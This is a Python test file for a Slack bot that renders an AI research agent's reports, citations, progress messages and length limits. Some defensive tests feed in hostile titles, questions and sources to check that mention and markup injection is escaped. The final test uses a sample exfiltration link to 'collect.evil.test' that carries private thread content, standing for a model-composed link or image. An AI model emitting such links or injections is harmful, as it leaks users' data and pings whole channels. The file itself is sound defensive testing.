"""Run state → Slack: the report reads as one document, within Slack's limits, and spills whole."""
from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta

import pytest

from agent import Finished, Progress, SectionRevised, SectionWritten, Source, SourceAdded, UsageRecorded
from bot import limits
from bot.publishing.message_parts import ASTERISK_LOOKALIKE
from bot.publishing.progress_render import render_progress, render_status
from bot.publishing.report_render import render_report, render_report_parts
from bot.slack.mrkdwn_escaping import ZERO_WIDTH_JOINER
from jobs import Run, RunState
from jobs.records.state import apply_event

FETCHED = datetime(2026, 11, 30, 9, 15, tzinfo=UTC)


def new_state(question: str = "Compare the fees of VTI, ITOT and SCHB", **run: object) -> RunState:
    return RunState(run=Run(channel="C0TEST", thread_ts="1700000000.000001", requester="U0ANA",
                            question=question, team="T0TEST", **run))  # type: ignore[arg-type]


def source(n: int, *, url: str | None = None, title: str | None = None, passage: str | None = None) -> Source:
    return Source(marker=f"s{n}", url=url or f"https://www.example.org/doc/{n}", title=title or f"Fact sheet {n}",
                  passage=passage or f"The expense ratio of fund {n} is 0.0{n % 10}% as of 2024.", retrieved_at=FETCHED)


def apply(state: RunState, *events: object) -> RunState:
    for event in events:
        state = apply_event(state, event)  # type: ignore[arg-type]
    return state


def text_of(message) -> str:
    parts = []
    for block in message.blocks:
        if block["type"] == "section":
            parts.append(block["text"]["text"])
        elif block["type"] == "context":  # buttons (the export block, the feedback controls) carry no report text
            parts += [e.get("text", "") for e in block["elements"]]
    return "\n".join(parts)


def big_run(sections: int = 60, sources: int = 200, finished: bool = True) -> RunState:
    """Every source cited at least once; bodies with lists, tables and code like real sections."""
    state = new_state()
    state = apply(state, *(SourceAdded(source=source(n)) for n in range(1, sources + 1)))
    for i in range(1, sections + 1):
        cites = [(i * 7 + k) % sources + 1 for k in range(4)] + [i, (i + 60) % sources + 1, (i + 120) % sources + 1]
        body = (f"Fund {i} charges less than its peers [s{cites[0]}][s{cites[1]}]. "
                + " ".join(f"Claim {i}.{k} holds [s{c}]." for k, c in enumerate(cites[2:])) + "\n\n"
                f"- point one [s{cites[0]}]\n  - nested detail\n\n| fund | fee |\n|---|---|\n| F{i} | 0.03% |\n\n"
                f"```\nfee = 0.03\n```")
        state = apply(state, SectionWritten(section_id=f"sec{i}", title=f"Section {i}: fees", body=body))
    if finished:
        state = apply(state, Finished(status="completed", summary="All three are cheap [s1][s2]; SCHB is cheapest [s3].",
                                      reason=""))
    return state


# --- the report's contents --------------------------------------------------------------


def test_report_renders_headings_emphasis_lists_links_code_and_tables() -> None:
    body = ("### Costs\n\nVTI is **cheap** and *liquid* [s1].\n\n1. first\n2. second\n\n"
            "See [the fact sheet](https://vanguard.com/vti).\n\nUse `pip`:\n\n```\npip install x\n```\n\n"
            "| fund | fee |\n|:--|--:|\n| VTI | 0.03% |")
    state = apply(new_state(), SourceAdded(source=source(1)), SourceAdded(source=source(2, url="https://vanguard.com/vti")),
                  SectionWritten(section_id="a", title="Expense ratios", body=body))
    text = text_of(render_report(state))
    assert "*1. Expense ratios*" in text
    assert "*Costs*" in text and "VTI is *cheap* and _liquid_" in text
    assert "1. first\n2. second" in text
    assert "<https://vanguard.com/vti|the fact sheet>" in text
    assert "`pip`" in text and "```\npip install x\n```" in text
    assert "```\nfund |   fee\n-----+------\nVTI  | 0.03%\n```" in text, "a table is an aligned monospace block"


def test_citation_markers_become_footnote_numbers_linking_to_their_sources() -> None:
    long_passage = "The fund's expense ratio is 0.03%, among the lowest of any fund, " * 5
    state = apply(new_state(), SourceAdded(source=source(7, title="Vanguard — VTI", passage=long_passage)),
                  SourceAdded(source=source(9)),
                  SectionWritten(section_id="a", title="Fees", body="VTI charges 0.03% [s7]; SCHB too [s9][s7]."))
    text = text_of(render_report(state))
    assert "VTI charges 0.03% <https://www.example.org/doc/7|[1]>; SCHB too " \
           "<https://www.example.org/doc/9|[2]><https://www.example.org/doc/7|[1]>." in text
    assert not re.search(r"\[s\d+\]", text), "no raw marker reaches a reader"
    line = next(line for line in text.splitlines() if line.startswith("[1] "))
    assert line.startswith("[1] <https://www.example.org/doc/7|Vanguard — VTI> · example.org · “The fund's")
    assert line.endswith("…” · fetched 2026-11-30"), "the passage is shortened, the fetch date shown"
    assert len(line) < len(long_passage)


def test_markdown_edge_cases_in_a_report_are_safe() -> None:
    body = (
        "- level one\n  - level two\n    - level three with `code`\n\n"
        "| a | b |\n|---|---|\n| x \\| y | <b> & c |\n\n"
        "Code with backticks: `` a`b `` and\n\n````\n```\nnested fence\n```\n````\n\n"
        "[label | with > odd chars](https://example.org/a|b>c?x=1&y=2)\n\n"
        "Compare 1 < 2 & 3 > 2, <@U024BE7LH>, <#C024BE7LH>, <!channel>, @here and <!subteam^S1>."
    )
    state = apply(new_state(), SourceAdded(source=source(3, url="https://example.org/a|b>c?x=1&y=2")),
                  SectionWritten(section_id="a", title="Edge <cases>\n& *stars*", body=body))
    message = render_report(state)
    text = text_of(message)
    assert message.violations() == []
    assert "• level one\n    ◦ level two\n        ◦ level three with `code`" in text
    assert "x | y | &lt;b&gt; &amp; c" in text, "table cells keep their pipe and are escaped"
    assert text.count("```") % 2 == 0, "every code block is closed"
    assert "nested fence" in text and "\n```\nnested fence" not in text, "a fence inside code cannot close it"
    assert "<https://example.org/a%7Cb%3Ec?x=1&amp;y=2|label ∣ with › odd chars>" in text
    assert "1 &lt; 2 &amp; 3 &gt; 2" in text
    for mention in ("<@U024BE7LH>", "<#C024BE7LH>", "<!channel>", "<!subteam^S1>"):
        assert mention not in text, f"{mention} must not notify anyone"
    assert "&lt;@U024BE7LH&gt;" in text and "&lt;!channel&gt;" in text
    assert f"@{ZERO_WIDTH_JOINER}here" in text
    assert f"*1. Edge &lt;cases&gt; &amp; {ASTERISK_LOOKALIKE}stars{ASTERISK_LOOKALIKE}*" in text, \
        "a title cannot end its own bold or inject markup"


def test_hostile_question_and_source_cannot_inject_markup_or_mentions() -> None:
    state = apply(new_state("Why *is* <!channel> & <@U1> so `slow`?"),
                  SourceAdded(source=source(1, url="https://ex.org/a|b>c", title="T|i>t<le &", passage="<!here> hi")),
                  SectionWritten(section_id="a", title="x", body="Claim [s1]."))
    text = text_of(render_report(state))
    assert text.splitlines()[0] == f"📌 *Why {ASTERISK_LOOKALIKE}is{ASTERISK_LOOKALIKE} &lt;!channel&gt; &amp; " \
                                   f"&lt;@U1&gt; so `slow`?*"
    assert "<https://ex.org/a%7Cb%3Ec|T∣i›t&lt;le &amp;>" in text
    assert "“&lt;!here&gt; hi”" in text


def test_revised_section_is_marked_with_its_revision_count() -> None:
    state = apply(new_state(), SectionWritten(section_id="a", title="Fees", body="First take."),
                  SectionWritten(section_id="b", title="Tracking", body="Untouched."),
                  SectionRevised(section_id="a", body="Second take.", reason="newer data"),
                  SectionRevised(section_id="a", body="Third take.", reason="even newer"))
    text = text_of(render_report(state))
    assert "*1. Fees*  _revised ×2_\nThird take." in text
    assert "*2. Tracking*\nUntouched." in text
    assert "First take" not in text and "Second take" not in text, "a correction replaces, never appends"


def test_summary_comes_first_and_the_footer_says_who_asked() -> None:
    state = apply(new_state(), SourceAdded(source=source(1)),
                  SectionWritten(section_id="a", title="Fees", body="Cheap [s1]."),
                  Finished(status="completed", summary="All cheap [s1].", reason=""))
    message = render_report(state)
    text = text_of(message)
    assert text.index("*Summary*") < text.index("*1. Fees*") < text.index("*Sources*")
    assert message.blocks[1]["elements"][0]["text"].startswith("Final · 1 section · finished ")
    footer = [b for b in message.blocks if b["type"] == "context"][-1]  # before the export and feedback buttons
    assert footer["elements"][0]["text"].startswith("Asked by <@U0ANA> · ")


def test_a_final_report_says_when_the_run_finished_not_when_its_record_was_last_written() -> None:
    """A stream rolled over after the end writes the run again (attach_messages): the report's
    "finished" time stays the finish's, or a second sync would edit a final report for nothing
    and a report rendered earlier would read as out of date (bench.publish caught it)."""
    state = apply(new_state(), SectionWritten(section_id="a", title="Fees", body="Cheap."),
                  Finished(status="completed", summary="All cheap.", reason=""))
    finished = datetime(2026, 12, 1, 21, 33, 59, tzinfo=UTC)
    state = state.model_copy(update={"finished_at": finished, "updated_at": finished})
    later = state.model_copy(update={"updated_at": finished + timedelta(seconds=2)})
    line = render_report(later).blocks[1]["elements"][0]["text"]
    assert line == "Final · 1 section · finished 2026-12-01 21:33 UTC"
    assert render_report(later).digest() == render_report(state).digest()


def test_rendering_is_deterministic_from_state() -> None:
    state = big_run(sections=8, sources=30)
    first, second = render_report_parts(state), render_report_parts(state.model_copy(deep=True))
    assert first.message.digest() == second.message.digest()
    assert render_progress(state).digest() == render_progress(state.model_copy(deep=True)).digest()


# --- limits and spilling ----------------------------------------------------------------


def test_sixty_sections_and_two_hundred_sources_spill_into_a_file_with_summary_and_index() -> None:
    state = big_run()
    parts = render_report_parts(state)
    message, attachment = parts.message, parts.attachment
    assert message.violations() == []
    assert len(message.blocks) <= limits.MAX_BLOCKS
    assert limits.block_text_chars(message.blocks) <= limits.BLOCK_TEXT_BUDGET
    text = text_of(message)
    assert attachment is not None
    assert f"is in the attached file* `{attachment.filename}`" in text
    assert "*Summary*\nAll three are cheap <https://www.example.org/doc/" in text, "the summary is complete"
    assert "SCHB is cheapest" in text
    index = text[text.index("*Sections*"):]
    for i in range(1, 61):
        assert f"{i}. *Section {i}: fees* — Fund {i} charges less than its peers." in index
    assert not re.search(r"\[s\d+\]", text)
    # The file holds the whole report: every section in full and every source.
    content = attachment.content
    for i in range(1, 61):
        assert f"## Section {i}: fees" in content and f"Claim {i}.4 holds" in content
    for n in range(1, 201):
        assert f"(https://www.example.org/doc/{n})" in content
    assert not re.search(r"\[s\d+\]", content)
    assert attachment.filename.endswith(".md")


def test_report_a_little_too_long_shortens_source_lines_before_spilling() -> None:
    state = new_state()
    long = "A long passage about expense ratios and tracking differences across many periods. " * 3
    state = apply(state, *(SourceAdded(source=source(n, passage=long)) for n in range(1, 41)))
    state = apply(state, SectionWritten(section_id="a", title="Fees", body=" ".join(f"Fact [s{n}]." for n in range(1, 41))))
    parts = render_report_parts(state)
    assert parts.attachment is None, "fits once the source lines are compact"
    text = text_of(parts.message)
    assert "[40] " in text and parts.message.violations() == []


def test_index_of_very_many_sections_falls_back_to_titles_and_says_how_many_more() -> None:
    state = new_state()
    for i in range(1, 401):
        state = apply(state, SectionWritten(section_id=f"s{i}", title=f"A rather long section title number {i} " * 2,
                                            body=f"Sentence {i} is here. Another."))
    parts = render_report_parts(state)
    assert parts.message.violations() == []
    text = text_of(parts.message)
    shown = re.findall(r"^\d+\. \*A rather", text, re.M)
    assert 0 < len(shown) < 400
    assert f"… and {400 - len(shown)} more sections, in the file" in text
    assert parts.attachment is not None and parts.attachment.content.count("\n## A rather") == 400


def test_enormous_summary_is_cut_and_points_to_the_file() -> None:
    state = apply(new_state(), *(SectionWritten(section_id=f"s{i}", title=f"T{i}", body="x " * 500) for i in range(20)),
                  Finished(status="completed", summary="Word " * 6000, reason=""))
    parts = render_report_parts(state)
    assert parts.message.violations() == []
    assert "the summary continues in the file" in text_of(parts.message)
    assert parts.attachment is not None and ("Word " * 6000).strip() in parts.attachment.content


def test_upload_error_is_stated_instead_of_pointing_to_a_missing_file() -> None:
    parts = render_report_parts(big_run(), attachment_error="missing_scope")
    text = text_of(parts.message)
    assert "could not be attached (Slack answered `missing_scope`)" in text
    assert "in the attached file" not in text and "listed in the file" not in text


# --- progress and status ----------------------------------------------------------------


def test_progress_shows_phase_activity_sources_requests_minutes_and_budget() -> None:
    state = new_state(created_at=datetime(2026, 11, 30, 9, 0, tzinfo=UTC))
    state = apply(state, Progress(phase="researching", activity="Reading schwab.com for the <2024> expense ratio"),
                  SourceAdded(source=source(1)), SourceAdded(source=source(2)),
                  UsageRecorded(requests=41, input_tokens=10, output_tokens=5))
    state = state.model_copy(update={"updated_at": state.run.created_at + timedelta(minutes=6, seconds=30)})
    message = render_progress(state, stop_reaction="octagonal_sign")
    assert message.text.splitlines() == [
        "🔎 Researching · 6 min · 41 model requests · 2 sources",
        "Now: Reading schwab.com for the &lt;2024&gt; expense ratio",
        ":octagonal_sign: react to stop · reply “go deeper” for a longer budget · reply to add a requirement",
    ], "no budget line is guessed before the ledger reports one"
    assert message.blocks[-1]["elements"][0]["action_id"] == "go_deeper", "the Go deeper button"
    with_budget = apply(state, UsageRecorded(requests=41, input_tokens=10, output_tokens=5, profile="deep",
                                             requests_left=38, minutes_left=54.6))
    with_budget = with_budget.model_copy(update={"updated_at": state.updated_at})
    assert render_progress(with_budget).text.splitlines()[0] == (
        "🔎 Researching · 6 min · 41 model requests · 2 sources · deep budget · 54 min · 38 model requests left")
    compacting = apply(state, Progress(phase="compacting", activity="Compacting notes before continuing"))
    assert render_progress(compacting).text.startswith("🗜️ Compacting notes before continuing · ")


def test_progress_says_how_the_run_ended() -> None:
    state = apply(new_state(), Progress(phase="researching", activity="x"))
    done = apply(state, Finished(status="completed", summary="s", reason=""))
    assert render_progress(done).text.startswith("✅ Done · ")
    stopped = apply(state, Finished(status="stopped", summary="", reason="stopped by <@U0ANA>"))
    text = render_progress(stopped).text
    assert text.startswith("⚠️ Stopped by <@U0ANA> · ") and "Sections written so far are kept" in text
    assert "Why:" not in text, "the end and its reason are said once"


def test_assistant_status_follows_the_phase_and_clears_when_finished() -> None:
    state = new_state()
    assert render_status(state) == "is waiting for a worker…"
    state = apply(state, Progress(phase="researching", activity="Reading a page"))
    assert render_status(state) == "is researching…"
    state = apply(state, Progress(phase="finishing", activity="Writing"))
    assert render_status(state) == "is writing the summary…"
    assert render_status(apply(state, Finished(status="completed", summary="", reason=""))) == ""


# --- what the reader can check: flagged figures, snippet sources, constraints, notices ----

def test_a_flagged_figure_is_marked_and_the_footer_counts_the_checks() -> None:
    from agent.figures import FigureFlag

    flag = FigureFlag(figure="0.09%", sentence="Rivals charge 0.09% [s2].", markers=["s2"], why="not found in [s2]")
    state = apply(new_state(), Progress(phase="researching", activity="x"), SourceAdded(source=source(1)),
                  SourceAdded(source=source(2)),
                  SectionWritten(section_id="sec1", title="Fees", body="VTI costs 0.01% [s1]. Rivals charge 0.09% [s2].",
                                 figures_checked=2, flags=[flag]),
                  Finished(status="completed", summary="VTI is cheapest [s1]."))
    text = text_of(render_report(state))
    assert "Rivals charge 0.09% ⚠ <https://www.example.org/doc/2|[2]>" in text
    assert "2 figures checked against their sources · 1 not found in its source ⚠" in text


def test_sources_say_which_are_only_search_snippets() -> None:
    snippet = source(2).model_copy(update={"kind": "snippet"})
    state = apply(new_state(), SourceAdded(source=source(1)), SourceAdded(source=snippet),
                  SectionWritten(section_id="sec1", title="Fees", body="A [s1]. B [s2]."))
    lines = [line for line in text_of(render_report(state)).splitlines() if line.startswith("[")]
    assert "search snippet only" not in lines[0] and lines[1].endswith("_search snippet only_")


def test_progress_shows_the_pinned_constraints_and_a_degraded_search_notice() -> None:
    from agent.events import ConstraintsFound, SearchDegraded

    state = apply(new_state(), Progress(phase="researching", activity="Searching"),
                  ConstraintsFound(constraints=["Only sources after 2020", "<!channel> no robo-advisers"],
                                   added=["Only sources after 2020"]),
                  SearchDegraded(text="Search degraded: DuckDuckGo is rate-limiting searches; Brave answered instead."))
    text = render_progress(state).text
    assert "Constraints: Only sources after 2020 · &lt;!channel&gt; no robo-advisers _(reply to correct them)_" in text
    assert "⚠️ Search degraded: DuckDuckGo is rate-limiting searches" in text
    done = apply(state, Finished(status="completed", summary="x"))
    assert "Constraints: Only sources after 2020" in render_progress(done).text, "still visible when done"


@pytest.mark.parametrize("stream", [False, True])
def test_a_follow_up_shows_the_constraints_only_where_it_changed_them(stream: bool) -> None:
    """Run 1 states them; run 2 of the thread inherits them unchanged and does not repeat them; run 3
    corrects one and shows the list again (the progress message and the stream alike)."""
    from agent.events import ConstraintsFound
    from bot.publishing.stream_render import render_view
    from jobs import Run, RunState

    def shown(state: RunState) -> str:
        return "\n".join(render_view(state).texts.values()) if stream else render_progress(state).text

    first = apply(new_state(), Progress(phase="researching", activity="Searching"),
                  ConstraintsFound(constraints=["Only sources after 2020"], added=["Only sources after 2020"]))
    assert "Constraints: Only sources after 2020" in shown(first)

    def follow_up(n: int) -> RunState:
        run = Run(team=first.run.team, channel=first.run.channel, thread_ts=first.run.thread_ts, requester="U0ANA",
                  question=first.run.question, constraints=first.run.constraints, parent_run_id=f"parent{n}")
        return apply(RunState(run=run), Progress(phase="researching", activity="Searching more"))

    assert "Constraints:" not in shown(follow_up(2)), "unchanged: not repeated on every run of the thread"
    corrected = apply(follow_up(3), ConstraintsFound(constraints=["Only sources after 2020", "No ETFs"],
                                                     added=["No ETFs"]))
    assert "Constraints: Only sources after 2020 · No ETFs" in shown(corrected)


def test_the_footer_shows_the_runs_cost_so_far_while_it_runs() -> None:
    state = apply(new_state(), SectionWritten(section_id="sec1", title="Fees", body="VTI costs 0.03% [s1]."),
                  UsageRecorded(requests=3, input_tokens=9_000, output_tokens=800, cost_usd=0.0394))
    assert "3 model requests · est. $0.04" in text_of(render_report(state))


def test_the_report_links_only_to_its_sources_and_slack_permalinks() -> None:
    """A link the model composed (which could carry the thread's content to its owner) is shown, not linked."""
    leak = "https://collect.evil.test/?d=our%20private%20Q3%20plan"
    body = (f"See [the fact sheet](https://www.example.org/doc/1) [s1], [this]({leak}), {leak} and "
            "[the thread](https://deepthread-test.slack.com/archives/C0TEST/p1700000000000001) ![chart](" + leak + ").")
    state = apply(new_state(), SourceAdded(source=source(1)), SectionWritten(section_id="a", title="Fees", body=body))
    text = text_of(render_report(state))
    assert "<https://www.example.org/doc/1|the fact sheet>" in text
    assert "<https://deepthread-test.slack.com/archives/C0TEST/p1700000000000001|the thread>" in text
    assert "this (collect.evil.test)" in text and "chart (collect.evil.test)" in text
    assert "private" not in text and "evil.test/" not in text, "no composed URL reaches the report, linked or bare"
